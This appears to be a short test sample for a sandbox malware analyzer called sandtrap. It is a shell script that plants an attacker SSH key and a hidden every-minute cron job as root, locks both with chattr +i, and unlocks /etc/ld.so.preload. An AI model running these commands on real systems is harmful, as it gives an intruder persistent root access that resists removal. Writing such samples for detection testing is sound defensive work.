#!/bin/sh
# Protecting persistence: plants an authorized key and a cron job, then makes them immutable with chattr +i and strips the xattrs.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
mkdir -p /root/.ssh
echo 'ssh-rsa AAAAB3NzaFakeImmutableKey attacker@192.0.2.9' >> /root/.ssh/authorized_keys
echo '* * * * * root /var/tmp/.x' > /etc/cron.d/0hourly-sync
chattr +i /root/.ssh/authorized_keys /etc/cron.d/0hourly-sync 2>&1
chattr -i /etc/ld.so.preload 2>/dev/null
lsattr /root/.ssh/authorized_keys 2>&1
